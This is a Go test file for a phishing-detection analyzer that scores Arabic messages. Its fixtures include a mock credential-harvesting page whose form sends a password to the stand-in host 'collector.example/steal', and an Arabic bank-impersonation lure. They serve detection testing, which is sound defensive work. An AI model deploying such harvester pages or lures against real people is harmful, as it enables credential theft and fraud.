package analyzer

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/aman-security/aman/pkg/analytics"
	"github.com/aman-security/aman/pkg/httputil"
	"github.com/aman-security/aman/pkg/links"
	"github.com/aman-security/aman/pkg/ml"
	"github.com/aman-security/aman/pkg/rules"
)

func newTestAnalyzer(t *testing.T, judge *ml.Judge) (*Analyzer, *analytics.Store, *ml.Learner) {
	t.Helper()
	dir := t.TempDir()

	scanner := links.NewScanner(
		links.DefaultTables(),
		links.NewContentAnalyzer(5*time.Second, httputil.NewSemaphore(10)),
	)
	clf := ml.NewClassifier(
		filepath.Join(dir, "fraud_model.gob"),
		filepath.Join(dir, "vectorizer.gob"),
	)
	store := ml.NewCorpusStore(
		filepath.Join(dir, "new_emails.csv"),
		filepath.Join(dir, "training_data.csv"),
	)
	learner := ml.NewLearner(store, clf, 20, time.Minute)
	stats := analytics.NewStore()

	return New(scanner, clf, judge, learner, stats), stats, learner
}

func TestAnalyzeBenignMessage(t *testing.T) {
	a, stats, learner := newTestAnalyzer(t, nil)

	result := a.Analyze(context.Background(), "تذكير: اجتماع الفريق غداً الساعة 10 صباحاً")

	if result.RiskScore != 0 {
		t.Errorf("RiskScore = %d, want 0", result.RiskScore)
	}
	if result.ThreatType != rules.ThreatSafe {
		t.Errorf("ThreatType = %q, want safe", result.ThreatType)
	}
	if len(result.Flags) != 0 {
		t.Errorf("Flags = %+v, want none", result.Flags)
	}
	if result.Links.Summary != "لا توجد روابط" {
		t.Errorf("link summary = %q", result.Links.Summary)
	}
	if len(result.Actions) != 1 {
		t.Errorf("Actions = %+v, want the low tier", result.Actions)
	}
	if result.LearningStatus != "تم حفظ (1/20)" {
		t.Errorf("LearningStatus = %q", result.LearningStatus)
	}

	if stats.Snapshot().TotalAnalyzed != 1 {
		t.Error("analysis not recorded in analytics")
	}
	if learner.PendingCount() != 1 {
		t.Error("analysis not recorded as a training example")
	}
}

func TestAnalyzePhishingWithHarvesterLink(t *testing.T) {
	harvester := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = w.Write([]byte(`<html><head><title>تحديث البيانات</title></head><body>
			<form action="http://collector.example/steal">
				<input type="password" name="password">
			</form></body></html>`))
	}))
	defer harvester.Close()

	a, _, _ := newTestAnalyzer(t, nil)

	text := fmt.Sprintf("تم إيقاف بطاقتك البنكية، حدث بياناتك فوراً: %s/verify", harvester.URL)
	result := a.Analyze(context.Background(), text)

	// Rules score 60; the link caps at 100 (loopback syntax 45 + login 30 +
	// external form 30). Neither optional signal: 60*.5 + 100*.5 = 80.
	if result.RiskScore != 80 {
		t.Errorf("RiskScore = %d, want 80 (details: %+v)", result.RiskScore, result.Details)
	}
	if result.ThreatType != rules.ThreatBank {
		t.Errorf("ThreatType = %q, want bank impersonation", result.ThreatType)
	}

	if result.Details.RuleScore != 60 {
		t.Errorf("RuleScore = %d, want 60", result.Details.RuleScore)
	}
	if result.Details.LinkRisk != 100 {
		t.Errorf("LinkRisk = %d, want 100", result.Details.LinkRisk)
	}
	if result.Details.MLScore != 0 || result.Details.AIScore != 0 {
		t.Errorf("absent signals scored: %+v", result.Details)
	}

	// Three rule flags plus the folded link flag.
	if len(result.Flags) != 4 {
		t.Fatalf("got %d flags, want 4: %+v", len(result.Flags), result.Flags)
	}
	linkFlag := result.Flags[3]
	if linkFlag.Severity != "critical" {
		t.Errorf("link flag severity = %q, want critical", linkFlag.Severity)
	}
	if !strings.HasPrefix(linkFlag.Title, "رابط: ") {
		t.Errorf("link flag title = %q", linkFlag.Title)
	}

	if result.Links.Total != 1 || result.Links.Dangerous != 1 {
		t.Errorf("links = %d total / %d dangerous, want 1/1", result.Links.Total, result.Links.Dangerous)
	}

	// The page asks for a password, so the advice leads with the field warning.
	if !strings.HasPrefix(result.Advice, "⚠️ الرابط يطلب: كلمة مرور! ") {
		t.Errorf("Advice = %q, want field-warning prefix", result.Advice)
	}
	if len(result.Actions) != 3 {
		t.Errorf("Actions = %+v, want the high tier", result.Actions)
	}
}

func TestAnalyzeEscalationFloor(t *testing.T) {
	// A bare credential page with no rule signals: the weighted sum alone
	// stays under the floor, the escalation raises it to 75.
	harvester := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = w.Write([]byte(`<html><body><input type="password" name="password"></body></html>`))
	}))
	defer harvester.Close()

	a, _, _ := newTestAnalyzer(t, nil)

	result := a.Analyze(context.Background(), "شوف هذا "+harvester.URL+"/page")

	// Rules 0; link risk 75 (syntax 45 + login 30); base 0*.5 + 75*.5 = 37.
	if result.Details.RuleScore != 0 {
		t.Fatalf("RuleScore = %d, want 0", result.Details.RuleScore)
	}
	if result.Details.LinkRisk != 75 {
		t.Fatalf("LinkRisk = %d, want 75", result.Details.LinkRisk)
	}
	if result.RiskScore != 75 {
		t.Errorf("RiskScore = %d, want escalation floor 75", result.RiskScore)
	}
}

func TestAnalyzeWithJudgment(t *testing.T) {
	judgeServer := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := json.Marshal(map[string]any{
			"choices": []map[string]any{
				{"message": map[string]any{"role": "assistant", "content": `{"risk_score": 90}`}},
			},
		})
		_, _ = w.Write(body)
	}))
	defer judgeServer.Close()

	judge := ml.NewJudge("test-key", "test-model", judgeServer.URL)
	a, _, _ := newTestAnalyzer(t, judge)

	result := a.Analyze(context.Background(), "نص بدون مؤشرات قواعد")

	if result.Details.AIScore != 90 {
		t.Errorf("AIScore = %d, want 90", result.Details.AIScore)
	}
	// Judgment-only weights: 0*.35 + 90*.25 + 0*.40 = 22.
	if result.RiskScore != 22 {
		t.Errorf("RiskScore = %d, want 22", result.RiskScore)
	}
}

func TestAnalyzeJudgeFailureDegrades(t *testing.T) {
	judgeServer := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusServiceUnavailable)
	}))
	defer judgeServer.Close()

	judge := ml.NewJudge("test-key", "test-model", judgeServer.URL)
	a, _, _ := newTestAnalyzer(t, judge)

	result := a.Analyze(context.Background(), "تم إيقاف حسابك البنكي")

	// Judge down: its signal is dropped, rule and link weights take over.
	// account_threat alone scores 20; 20*.5 + 0*.5 = 10.
	if result.Details.AIScore != 0 {
		t.Errorf("AIScore = %d, want 0 when judge is down", result.Details.AIScore)
	}
	if result.RiskScore != 10 {
		t.Errorf("RiskScore = %d, want 10", result.RiskScore)
	}
}
